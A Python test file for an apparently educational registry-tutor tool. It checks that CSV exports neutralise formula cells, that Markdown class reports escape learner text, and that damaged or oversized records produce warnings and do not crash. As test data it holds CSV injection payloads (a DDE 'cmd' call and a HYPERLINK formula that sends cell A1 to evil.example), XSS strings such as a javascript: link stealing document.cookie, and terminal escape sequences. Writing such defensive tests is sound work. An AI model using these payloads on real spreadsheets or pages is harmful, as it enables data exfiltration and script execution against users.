"""Issue 16, injection into instructor files and damaged records.

* CSV: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR runs as a formula in a spreadsheet
  (OWASP "CSV Injection": prefix such cells with a single quote); class-report reads them back unchanged.
* Markdown: learner text is escaped (no raw ``<script>``, ``<iframe>``, ``javascript:`` links, no headings
  smuggled in through a newline in a name).
* class-report: one bad export (wrong types, huge numbers, Rich markup) is one warning; the rest still count.
* Progress: huge numbers mark a progress file as damaged, and the warning names the file kept aside.
"""

from __future__ import annotations

import csv
import io
import json

from tests.security.cli_run import raw_controls, tutor
from tutor.classroom import report, results
from tutor.lessons.plain import _stars
from tutor.lessons.progress import ProgressStore

FORMULAS = ["=2+5", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted"]


def _store(tmp_path, answers: list[str]) -> ProgressStore:
    store = ProgressStore("learner", root=tmp_path)
    for i, answer in enumerate(answers):
        store.record_quiz("first-push", f"q{i}", answer, False, "latest-is-newest")
    return store


def test_csv_export_neutralises_formula_cells(tmp_path):
    export = results.build_export(_store(tmp_path, FORMULAS), learner="=2+5")
    rows = list(csv.DictReader(io.StringIO(results.to_csv(export), newline="")))
    assert {row["learner"] for row in rows} == {"'=2+5"}
    answers = [row["answer"] for row in rows if row["record"] == "quiz"]
    assert answers == ["'" + formula for formula in FORMULAS]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_class_report_reads_guarded_cells_back_exactly(tmp_path):
    export = results.build_export(_store(tmp_path, FORMULAS), learner="=2+5")
    path = tmp_path / "export.csv"
    path.write_text(results.to_csv(export), encoding="utf-8")
    loaded = report.load_export(path)
    assert loaded.learner == "=2+5"
    assert [row["answer"] for row in loaded.quiz] == FORMULAS


def test_results_export_csv_through_the_cli(tmp_path):
    data = tmp_path / "data"
    _store(data, ["=HYPERLINK(\"http://evil.example\")"]).save()
    proc = tutor("results", "export", "--format", "csv", "--profile", "learner", "--learner", "@evil",
                 data=data)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert rows[-1]["learner"] == "'@evil" and rows[-1]["answer"] == "'=HYPERLINK(\"http://evil.example\")"


def _export(learner: str, answer: str = "1.0", **quiz_fields) -> dict:
    quiz = {"quiz": "seed-1-current", "question": "q1", "type": "pull-version", "correct": False,
            "answer": answer, "misconception": "latest-is-newest", "attempts": 1}
    quiz.update(quiz_fields)
    return {
        "format": "registry-tutor-results", "version": 1, "learner": learner, "profile": "p",
        "exported": "2026-03-01T10:00:00Z", "app": "t", "pack": None,
        "lessons": [{"id": "first-push", "title": "Your first push", "status": "done"}],
        "quiz": [quiz],
    }


def test_markdown_report_escapes_learner_text(tmp_path):
    files = []
    for i, (name, answer) in enumerate([
        ("<script>alert(1)</script>", "[click me](javascript:alert(document.cookie))"),
        ("Eve\n# Injected heading\n<iframe src=https://evil.example>", "<img src=x onerror=alert(1)>"),
        ("Mallory", "<javascript:alert(1)>"),
    ]):
        path = tmp_path / f"{i}.json"
        path.write_text(json.dumps(_export(name, answer)), encoding="utf-8")
        files.append(str(path))
    out = tmp_path / "report.md"
    proc = tutor("class-report", *files, "--markdown", str(out), data=tmp_path)
    assert proc.returncode == 0, proc.stderr
    text = out.read_text(encoding="utf-8")
    for raw in ("<script", "<iframe", "<img", "](javascript:", "<javascript:"):
        assert raw not in text
    assert not [line for line in text.splitlines() if line.startswith("# ") and line != "# Class report"]
    assert "&lt;script&gt;alert\\(1\\)&lt;/script&gt;" in text
    assert "Eve\\\\x0a\\# Injected heading" in text


def test_class_report_warns_per_bad_file_and_reports_the_rest(tmp_path):
    good = tmp_path / "good.json"
    good.write_text(json.dumps(_export("Ann")), encoding="utf-8")
    bad = {
        "list-title.json": json.dumps(_export("Bob")).replace('"title": "Your first push"', '"title": ["x"]'),
        "list-misconception.json": json.dumps(_export("Cy", misconception=["a", "b"])),
        "huge-int.json": json.dumps(_export("Di")).replace('"attempts": 1', '"attempts": 1' + "0" * 400),
        "huger-int.json": json.dumps(_export("Ed")).replace('"attempts": 1', '"attempts": 1' + "0" * 5000),
        "name-number.json": json.dumps(_export("Fi")).replace('"learner": "Fi"', '"learner": 5'),
        "correct-text.json": json.dumps(_export("Gu", correct="yes")),
    }
    for name, text in bad.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    markup = tmp_path / "markup.json"
    markup.write_text(json.dumps(_export("[/bold]Hy[link=x]", misconception="[/red]")), encoding="utf-8")
    proc = tutor("class-report", str(good), *(str(tmp_path / n) for n in bad), str(markup), data=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    warnings = proc.stderr.splitlines()
    assert len(warnings) == len(bad)
    assert sorted(w.split(":")[0].rsplit("/", 1)[1] for w in warnings) == sorted(bad)
    expected = {
        "list-title.json": "skipped: lessons[0].title is list, not text",
        "list-misconception.json": "skipped: quiz[0].misconception is list, not text",
        "huge-int.json": "skipped: quiz[0].attempts is not a count from 0 to 1000000000 (a huge number)",
        "huger-int.json": "skipped: not valid JSON (ValueError",
        "name-number.json": "skipped: the export names no learner",
        "correct-text.json": "skipped: quiz[0].correct is not true or false",
    }
    for warning in warnings:
        name = warning.split(":")[0].rsplit("/", 1)[1]
        assert expected[name] in warning, warning
    assert "2 learner(s)" in proc.stdout  # Ann and the one with markup in her name
    assert "[/red]" in proc.stdout


def test_a_csv_export_with_a_huge_count_is_one_warning(tmp_path):
    export = results.build_export(_store(tmp_path, ["x"]), learner="Ann")
    path = tmp_path / "huge.csv"
    rows = list(csv.DictReader(io.StringIO(results.to_csv(export), newline="")))
    rows[-1]["attempts"] = "9" * 5000
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    exports, problems = report.load_exports([str(path)])
    assert exports == [] and len(problems) == 1 and "is malformed (a number of 5000 characters)" in problems[0]


# --- progress ------------------------------------------------------------------


def _progress_file(data, lessons: dict) -> None:
    folder = data / "default"
    folder.mkdir(parents=True)
    body = json.dumps({"format": 1, "app": "registry-tutor", "last_lesson": None, "lessons": lessons})
    (folder / "progress.json").write_text(body, encoding="utf-8")


def _record(**fields) -> dict:
    record = {"step": 1, "steps_done": [], "commands": [], "tasks": {}, "quiz": {}, "commands_typed": 3}
    record.update(fields)
    return record


def test_learn_list_says_it_set_a_damaged_progress_file_aside(tmp_path):
    data = tmp_path / "data"
    _progress_file(data, {"the-library": _record(step=10**15)})
    proc = tutor("learn", "--list", data=data)
    assert proc.returncode == 0
    assert "Your progress file was damaged (the record of lesson 'the-library' has a bad 'step')" in proc.stderr
    assert f"It was kept as progress.json.corrupt-1 in {data / 'default'}" in proc.stderr
    assert (data / "default" / "progress.json.corrupt-1").exists()


def test_a_progress_number_of_thousands_of_digits_is_damage_not_a_crash(tmp_path):
    data = tmp_path / "data"
    (data / "default").mkdir(parents=True)
    (data / "default" / "progress.json").write_text(
        '{"format": 1, "lessons": {"x": {"step": ' + "9" * 5000 + "}}}", encoding="utf-8")
    proc = tutor("learn", "--list", data=data)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr
    assert "Your progress file was damaged (it is not valid JSON (ValueError))" in proc.stderr


def test_exported_counts_are_capped_whatever_the_progress_file_holds(tmp_path):
    store = ProgressStore("p", root=tmp_path)
    store.data["lessons"]["x"] = _record(commands_typed=10**30,
                                         tasks={"t": {"hints": 10**40, "done": True}, "u": "not a task"})
    store.data["quizzes"] = {"seed-1-current": {"answers": {"q": {"answer": "a", "attempts": 10**50,
                                                                  "misconception": ["x"]}}}}
    export = results.build_export(store, learner="Ann")
    lesson = export["lessons"][0]
    assert (lesson["commands_typed"], lesson["hints"], lesson["tasks_done"]) == (10**9, 10**9, 1)
    assert export["quiz"][0]["attempts"] == 10**9 and export["quiz"][0]["misconception"] is None
    json.loads(results.to_json(export))


def test_stars_from_a_damaged_record_stay_between_0_and_3():
    assert [_stars(v) for v in (10**18, -5, "3", None, True, 2)] == [3, 0, 0, 0, 0, 2]


def test_class_report_output_is_free_of_raw_controls(tmp_path):
    path = tmp_path / "e.json"
    path.write_text(json.dumps(_export("Ann\x1b]2;x\x07", answer="\x9b2J")), encoding="utf-8")
    proc = tutor("class-report", str(path), str(tmp_path / "missing\x1b[2J.json"), data=tmp_path)
    assert raw_controls(proc.stdout + proc.stderr) == []
    assert "missing\\x1b[2J.json: skipped: no such file" in proc.stderr
